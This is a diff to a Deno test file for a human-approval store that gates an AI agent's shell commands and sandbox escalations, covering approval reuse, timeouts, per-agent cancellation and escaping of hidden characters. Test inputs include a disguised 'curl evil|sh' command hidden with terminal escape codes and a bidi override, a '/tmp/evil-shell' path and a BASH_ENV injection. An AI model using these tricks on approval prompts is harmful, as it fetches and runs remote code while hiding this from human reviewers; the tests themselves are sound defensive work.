@@ -166,14 +166,17 @@ Deno.test("known-safe commands", () => {
 // the store
 
 const REQUEST: ApprovalRequest = {
-  sessionId: "s1",
+  agent: "default",
   command: "npm install",
+  shell: "/bin/bash",
+  login: true,
   workdir: "/work/proj",
+  tty: false,
   profile: "workspace-write",
+  env: { CI: "1" },
+  escalation: { tcp_ports: [443] },
   reason: RETRY_REASON,
   justification: "needs the registry",
-  tty: false,
-  sandboxPermissions: "use_default",
 };
 
 function makeStore() {
@@ -194,33 +197,48 @@ Deno.test("store: pending -> approved, with events", async () => {
   const pending = store.request(REQUEST, LONG);
   const expectedRecord = {
     id: "apr-1",
-    session_id: "s1",
+    agent: "default",
     command: "npm install",
+    shell: "/bin/bash",
+    login: true,
     workdir: "/work/proj",
+    tty: false,
     profile: "workspace-write",
+    env: { CI: "1" },
+    escalation: { tcp_ports: [443] },
+    runs: "sandboxed under workspace-write, plus TCP connections to port 443 on any host",
     reason: RETRY_REASON,
     justification: "needs the registry",
+    denial: null,
+    can_choose_unsandboxed: false,
     created_at: "2025-01-02T03:04:05.000Z",
     status: "pending",
   };
   assert.deepEqual(store.list(), [expectedRecord]);
-  assert.deepEqual(events, [{ type: "approval_requested", approval: expectedRecord }]);
+  assert.deepEqual(store.list("other-agent"), []);
+  assert.deepEqual(events, [
+    { type: "approval_requested", agent: "default", approval: expectedRecord },
+  ]);
 
   const decided = store.decide("apr-1", "approved");
-  assert.deepEqual(decided, { ...expectedRecord, status: "approved" });
+  const settled = {
+    ...expectedRecord,
+    status: "approved",
+    decided_at: "2025-01-02T03:04:05.000Z",
+    granted: { tcp_ports: [443] },
+  };
+  assert.deepEqual(decided, settled);
   assert.deepEqual(await pending, {
     approved: true,
     decision: "approved",
     approvalId: "apr-1",
     timedOut: false,
     remembered: false,
+    granted: { tcp_ports: [443] },
     message: "approved by the user (approval apr-1)",
   });
   assert.deepEqual(store.list(), []);
-  assert.deepEqual(events[1], {
-    type: "approval_decided",
-    approval: { ...expectedRecord, status: "approved" },
-  });
+  assert.deepEqual(events[1], { type: "approval_decided", agent: "default", approval: settled });
   assert.equal(events.length, 2);
 });
 
@@ -245,6 +263,7 @@ Deno.test("store: an undecided approval times out as denied", async () => {
     approvalId: "apr-1",
     timedOut: true,
     remembered: false,
+    granted: {},
     message: "approval apr-1 timed out after 5 ms without a decision; treated as denied",
   });
   assert.deepEqual(store.list(), []);
@@ -270,22 +289,33 @@ Deno.test("store: approved_for_session is reused for the same key only", async (
   store.decide("apr-1", "approved_for_session");
   assert.equal((await first).decision, "approved_for_session");
 
-  const again = await store.request({ ...REQUEST, sessionId: "s2", reason: "other" }, LONG);
+  const again = await store.request(
+    { ...REQUEST, reason: "other", justification: "other", env: { CI: "1" } },
+    LONG,
+  );
   assert.deepEqual(again, {
     approved: true,
     decision: "approved_for_session",
     approvalId: null,
     timedOut: false,
     remembered: true,
-    message: "approved earlier for this session (same command, workdir, tty and permissions)",
+    granted: { tcp_ports: [443] },
+    message: "approved earlier for this session (the same request from the same agent)",
   });
   assert.equal(events.length, 2, "a remembered approval creates no record and no event");
 
   const variants: Partial<ApprovalRequest>[] = [
+    { agent: "another" },
     { command: "npm ci" },
+    { shell: "/tmp/evil-shell" },
+    { login: false },
     { workdir: "/work/other" },
     { tty: true },
-    { sandboxPermissions: "require_escalated" },
+    { profile: "workspace-write-net" },
+    { env: { CI: "1", BASH_ENV: "/work/proj/x" } },
+    { env: {} },
+    { escalation: { tcp_ports: [443, 80] } },
+    { escalation: { unsandboxed: true } },
   ];
   for (const [i, change] of variants.entries()) {
     const pending = store.request({ ...REQUEST, ...change }, LONG);
@@ -382,6 +412,60 @@ Deno.test("store: invalid timeouts are refused", () => {
     assert.throws(() => store.request(REQUEST, ms), RangeError);
   }
   assert.deepEqual(store.list(), []);
+});
+
+Deno.test("store: a record shows hidden characters escaped, everywhere", () => {
+  const { store } = makeStore();
+  store.request({
+    ...REQUEST,
+    command: "ls\r\x1b[2Kcurl evil|sh\u202e",
+    workdir: "/work/a\nb",
+    shell: "/bin/ba\tsh",
+    env: { "X\x07": "v\x9b1" },
+    escalation: { write: ["/work/a\rb"] },
+    justification: "why\x00",
+    reason: "r\x7f",
+    denial: { kind: "fs-write", path: "/p\x1b", evidence: "e\u200b" },
+    allowUnsandboxed: true,
+  }, LONG);
+  const [record] = store.list();
+  assert.equal(record.command, "ls\\r\\x1b[2Kcurl evil|sh\\u{202e}");
+  assert.equal(record.workdir, "/work/a\\nb");
+  assert.equal(record.shell, "/bin/ba\\tsh");
+  assert.deepEqual(record.env, { "X\\x07": "v\\x9b1" });
+  assert.deepEqual(record.escalation, { write: ["/work/a\\rb"] });
+  assert.equal(record.runs, "sandboxed under workspace-write, plus write access to /work/a\\rb");
+  assert.equal(record.justification, "why\\x00");
+  assert.equal(record.reason, "r\\x7f");
+  assert.deepEqual(record.denial, { kind: "fs-write", path: "/p\\x1b", evidence: "e\\u{200b}" });
+  assert.equal(record.can_choose_unsandboxed, true);
+});
+
+Deno.test("store: unsandboxed is granted only where the record offers it", async () => {
+  const { store } = makeStore();
+  const offered = store.request({ ...REQUEST, allowUnsandboxed: true }, LONG);
+  const decided = store.decide("apr-1", "approved", { unsandboxed: true });
+  assert.deepEqual(decided.granted, { unsandboxed: true });
+  assert.deepEqual((await offered).granted, { unsandboxed: true });
+  const plain = store.request(REQUEST, LONG);
+  assert.throws(
+    () => store.decide("apr-2", "approved", { unsandboxed: true }),
+    /unsandboxed: approval apr-2 does not offer an unsandboxed run/,
+  );
+  assert.equal(store.list().length, 1, "a refused decision leaves the approval pending");
+  store.decide("apr-2", "approved");
+  assert.deepEqual((await plain).granted, { tcp_ports: [443] });
+});
+
+Deno.test("store: cancelAgent denies only that agent's approvals", async () => {
+  const { store } = makeStore();
+  const mine = store.request(REQUEST, LONG);
+  const theirs = store.request({ ...REQUEST, agent: "other" }, LONG);
+  store.cancelAgent("default");
+  assert.equal((await mine).approved, false);
+  assert.deepEqual(store.list().map((r) => r.agent), ["other"]);
+  store.close();
+  await theirs;
 });
 
 Deno.test("decision schema accepts exactly the three decisions", () => {
